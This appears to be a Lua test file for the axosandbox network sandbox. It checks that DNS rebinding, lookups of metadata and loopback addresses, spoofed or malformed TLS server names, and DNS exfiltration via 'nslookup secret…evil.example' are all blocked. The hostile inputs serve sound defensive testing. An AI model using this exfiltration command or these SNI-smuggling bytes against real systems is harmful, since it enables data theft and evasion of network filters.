-- @runs native-root native-user
-- A network by names that is attacked from inside: names that lead where they must not, another name
-- in TLS. Floods, which meet another bound by each way of leading names out, are in names_spec.
local axo = require "axosandbox"
local e2e = require "spec.support.e2e"
local net = require "spec.support.net"
local resolve = require "axosandbox.network.names.resolve"

-- Where names lead to: the resolver of this machine is not asked.
local LEADS = {
  ["lo.example"] = { "127.0.0.1" }, ["lo6.example"] = { "::1" }, ["any.example"] = { "0.0.0.0" },
  ["meta.example"] = { "169.254.169.254" }, ["lan.example"] = { "192.168.1.1", "10.0.0.1" },
  ["mapped.example"] = { "::ffff:127.0.0.1" }, ["nat64.example"] = { "64:ff9b::7f00:1" },
  ["rebound.example"] = { "169.254.169.254", "127.0.0.1" },
}

local function u16(n) return string.pack(">I2", n) end
local function sized(bytes) return u16(#bytes) .. bytes end

local function entry(name) return "\0" .. sized(name) end

-- A ClientHello, with that server name or with none, or with the list of them that is given.
local function hello(name, list)
  list = list or name and entry(name)
  local extensions = list and u16(0) .. sized(sized(list)) or ""
  local body = "\3\3" .. ("r"):rep(32) .. "\0" .. sized "\x13\x01" .. "\1\0" .. sized(extensions)
  local handshake = "\1" .. string.pack(">I3", #body) .. body
  return "\22\3\1" .. sized(handshake)
end

describe("a network by names that is attacked", function()
  e2e.housekeeping(_ENV)

  local server, sb, look_up, asked

  setup(function()
    server, asked, look_up = net.serve(), {}, resolve.look_up
    resolve.look_up = function(name, done)
      asked[#asked + 1] = name
      local found = {}
      for _, text in ipairs(LEADS[name] or {}) do found[#found + 1] = { addr = text } end
      axo.async.defer(function() done(not found[1] and "ENOENT" or nil, found) end)
    end
    local list = { "tls.example", "gone.example", "*.wild.example:80",
      ("127.0.0.1:%d"):format(server.port), ("rebound.example:%d"):format(server.port) }
    for name in pairs(LEADS) do list[#list + 1] = name .. ":80" end
    sb = e2e.start { policy = {
      network = { allow = list },
      egress = function(request, default)
        local verdict = default(request)
        if verdict.allow and (request.name == "tls.example" or request.name:find "wild") then
          verdict.dial = ("127.0.0.1:%d"):format(server.port)
        end
        return verdict
      end,
    } }
  end)

  teardown(function()
    resolve.look_up = look_up
    assert(sb:stop())
    server.close()
  end)

  local function sh(command) return assert(sb:exec({ "sh", "-c", command }, { timeout = 60 })) end
  local function say(name, port, bytes)
    return assert(sb:exec_stdin({ "nc", name, tostring(port) }, bytes, { timeout = 60 }))
  end

  it("leads to no address that is not public, whatever its name", function()
    local before = server.count
    for _, name in ipairs { "lo.example", "lo6.example", "any.example", "meta.example",
      "lan.example", "mapped.example", "nat64.example" } do
      local r = say(name, 80, "GET /\r\n\r\n")
      assert.equal("", r.stdout)
      assert.same({ name, 80, "axosandbox" },
        { r.denied[1].name, r.denied[1].port, r.denied[1].by })
      assert.matches("it leads to .*, which is .*, and no entry of allow holds", r.denied[1].reason)
    end
    assert.equal(before, server.count)
  end)

  it("leads to a listed address, and passes over what else a name says", function()
    assert.matches("hello", say("rebound.example", server.port, "GET /\r\n\r\n").stdout)
    assert.equal("rebound.example", say("rebound.example", 80, "GET /\r\n\r\n").denied[1].name)
  end)

  it("lets TLS through only with the name that was dialled", function()
    local before = server.count
    assert.matches("hello", say("tls.example", 443, hello "tls.example").stdout)
    assert.equal(hello "tls.example", server.said)
    assert.equal(before + 1, server.count)
    for _, name in ipairs { "evil.example", "xtls.example", "tls.example.evil.example", false } do
      local r = say("tls.example", 443, hello(name))
      assert.equal("", r.stdout)
      assert.same({ "tls.example", 443 }, { r.denied[1].name, r.denied[1].port })
      assert.matches(name or "without a server name", r.denied[1].reason, 1, true)
    end
    assert.equal(before + 1, server.count)
    -- What a server may read, or pass over, and is not read here.
    local evil = hello "evil.example"
    for how, bytes in pairs {
      ["a warning first"] = "\21\3\1\0\2\1\0" .. evil, ["another version"] = "\22\4" .. evil:sub(3),
      ["another type of name first"] = hello(nil, "\1" .. sized "x" .. entry "evil.example"),
      ["two names"] = hello(nil, entry "tls.example" .. entry "evil.example"),
      ["too long"] = hello("evil.example" .. ("."):rep(17000)), ["SSL 2"] = "\128\46\1\3\1",
    } do
      local r = say("tls.example", 443, bytes)
      assert.equal("", r.stdout, how)
      assert.matches("cannot be read", r.denied[1].reason, 1, true)
    end
    assert.equal(before + 1, server.count)
    -- What is no TLS goes to the name all the same.
    assert.matches("hello", say("tls.example", 443, "GET / HTTP/1.0\r\n\r\n").stdout)
  end)

  it("says nothing to this machine's resolver about what is not reached", function()
    asked = {}
    sh "nslookup secret.in.a.name.evil.example; nslookup -type=txt x.evil.example"
    sh "nslookup secret.wild.example; nslookup gone.example"
    assert.same({}, asked)
    local r = say("gone.example", 80, "x")
    assert.equal("", r.stdout)
    assert.is_nil(r.denied)
    assert.same({ "gone.example" }, asked)
  end)
end)
